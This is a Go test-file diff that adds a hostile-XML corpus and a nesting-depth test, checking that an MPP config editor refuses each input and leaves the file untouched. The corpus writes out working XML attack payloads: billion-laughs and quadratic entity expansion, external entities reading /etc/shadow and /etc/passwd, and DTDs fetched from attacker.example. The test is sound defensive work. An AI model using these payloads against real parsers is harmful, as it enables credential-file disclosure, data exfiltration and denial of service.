@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"context"
 	"errors"
+	"fmt"
 	"io/fs"
 	"maps"
 	"os"
@@ -852,5 +853,90 @@ func TestLocalMPPFiles(t *testing.T) {
 				t.Errorf("Stat = %v, %v; want type %v", st.Mode, err, tc.mode)
 			}
 		})
+	}
+}
+
+// The hostile XML corpus: entity expansion in every form, external
+// entities and document types, encodings that hide a declaration, and
+// nesting that is not an MPP configuration. Each is refused with an error
+// that says what is wrong and that the file is not edited; the file keeps
+// its bytes, time and inode, and no copy or temp file appears.
+func TestHostileXML(t *testing.T) {
+	var tried, refused int
+	t.Cleanup(func() { fmt.Printf("hostile input (xml): %d tried, %d refused with a message\n", tried, refused) })
+	root := "<mppconfig>"
+	inRoot := func(s string) string { return strings.Replace(simMPPXML, root, root+s, 1) }
+	withDoctype := func(doctype string) string { return afterLine(t, simMPPXML, "<?xml", doctype+"\n") }
+	laughs := `<!DOCTYPE mppconfig [<!ENTITY lol "lol">`
+	for i := 1; i <= 9; i++ {
+		laughs += fmt.Sprintf(`<!ENTITY lol%d "%s">`, i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
+	}
+	laughs = strings.Replace(laughs, "&lol0;", "&lol;", -1) + "]>"
+	nest := func(n int) string { return strings.Repeat("<a>", n) + strings.Repeat("</a>", n) }
+	for _, tc := range []struct{ name, in, want string }{
+		{"billion laughs", strings.Replace(withDoctype(laughs), ">16777216<", ">&lol9;<", 1), "<!DOCTYPE (line 2)"},
+		{"quadratic blowup", strings.Replace(withDoctype(`<!DOCTYPE m [<!ENTITY a "`+strings.Repeat("a", 50_000)+`">]>`),
+			">16777216<", ">"+strings.Repeat("&a;", 1000)+"<", 1), "<!DOCTYPE"},
+		{"external entity (file)", strings.Replace(withDoctype(`<!DOCTYPE m [<!ENTITY xxe SYSTEM "file:///etc/shadow">]>`), ">16777216<", ">&xxe;<", 1), "<!DOCTYPE"},
+		{"external entity (URL)", strings.Replace(withDoctype(`<!DOCTYPE m [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>`), ">16777216<", ">&xxe;<", 1), "<!DOCTYPE"},
+		{"public external entity", withDoctype(`<!DOCTYPE m [<!ENTITY xxe PUBLIC "-//x//EN" "http://attacker.example/x.dtd">]>`), "<!DOCTYPE"},
+		{"parameter entity", withDoctype(`<!DOCTYPE m [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>`), "<!DOCTYPE"},
+		{"external DTD", withDoctype(`<!DOCTYPE mppconfig SYSTEM "http://attacker.example/mpp.dtd">`), "<!DOCTYPE"},
+		{"doctype over several lines", withDoctype("<!DOCTYPE\n  mppconfig\n  [<!ENTITY x \"y\">]>"), "<!DOCTYPE"},
+		{"lower-case doctype", withDoctype(`<!doctype m [<!entity x "y">]>`), "directive"},
+		{"entity declaration hidden in a comment", afterLine(t, simMPPXML, "<?xml", `<!-- <!ENTITY x SYSTEM "file:///etc/passwd"> -->`+"\n"), "<!ENTITY"},
+		{"undeclared entity reference", strings.Replace(simMPPXML, ">16777216<", ">&xxe;<", 1), "not well-formed"},
+		{"entity reference in an attribute", strings.Replace(simMPPXML, `name="ccxml.jsi.runtimesize"`, `name="&xxe;"`, 1), "not well-formed"},
+		{"UTF-7 hides the doctype", strings.Replace(strings.Replace(simMPPXML, "UTF-8", "UTF-7", 1), "<mppconfig>",
+			"+ADw-!DOCTYPE m +AFs-+ADw-!ENTITY x SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-<mppconfig>", 1), `declares encoding "UTF-7"`},
+		{"UTF-16 byte order mark", "\xFF\xFE" + "<\x00!\x00D\x00O\x00C\x00T\x00Y\x00P\x00E\x00", "UTF-16"},
+		{"100,000 levels of nesting", inRoot(nest(100_000)), "more than 64 levels deep (line 3)"},
+		{"65 levels of nesting", inRoot(nest(64)), "more than 64 levels deep"},
+		{"deep nesting in a parameter's value", strings.Replace(simMPPXML, ">16777216<", ">"+nest(1000)+"<", 1), "more than 64 levels deep"},
+		{"100,000 unclosed elements", inRoot(strings.Repeat("<a>", 100_000)), "more than 64 levels deep"},
+		{"over 4 MiB of nesting", inRoot(nest(MaxMPPConfigSize / 7)), "more than the 4194304"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			tried++
+			if len(tc.in) > MaxMPPConfigSize && !strings.Contains(tc.want, "4194304") {
+				t.Fatalf("the case is %d bytes: over the size limit, it would not test what it says", len(tc.in))
+			}
+			got, changed, err := SetMPPParams([]byte(tc.in), bothParams())
+			if err == nil || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), "refus") {
+				t.Fatalf("SetMPPParams: %v\nwant a refusal with %q", err, tc.want)
+			}
+			if changed || string(got) != tc.in {
+				t.Fatal("SetMPPParams changed the refused file")
+			}
+			dir := t.TempDir()
+			path := filepath.Join(dir, "mppconfig.xml")
+			setMPPFile(t, path, []byte(tc.in))
+			before := takeMPPSnapshot(t, path)
+			m := mppFile{files: LocalMPPFiles{}, path: path}
+			err = m.apply(bothParams())
+			if err == nil || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), path) {
+				t.Fatalf("apply: %v\nwant a refusal naming %s with %q", err, path, tc.want)
+			}
+			before.unchanged(t, path)
+			if names := dirNames(t, dir); !slices.Equal(names, []string{"mppconfig.xml"}) {
+				t.Fatalf("the folder holds %q: a copy or a temp file was written", names)
+			}
+			t.Logf("refused: %v", err)
+			refused++
+		})
+	}
+}
+
+// Nesting up to the limit is read; one level more is refused.
+func TestMPPConfigDepthLimit(t *testing.T) {
+	// The root is level 1; the chain below it makes the deepest level.
+	chain := func(levels int) string {
+		return strings.Replace(simMPPXML, "<mppconfig>", "<mppconfig>"+strings.Repeat("<a>", levels-1)+strings.Repeat("</a>", levels-1), 1)
+	}
+	if _, _, err := SetMPPParams([]byte(chain(MaxMPPConfigDepth)), bothParams()); err != nil {
+		t.Fatalf("%d levels: %v", MaxMPPConfigDepth, err)
+	}
+	if _, _, err := SetMPPParams([]byte(chain(MaxMPPConfigDepth+1)), bothParams()); err == nil || !strings.Contains(err.Error(), "more than 64 levels deep") {
+		t.Fatalf("%d levels: %v", MaxMPPConfigDepth+1, err)
 	}
 }
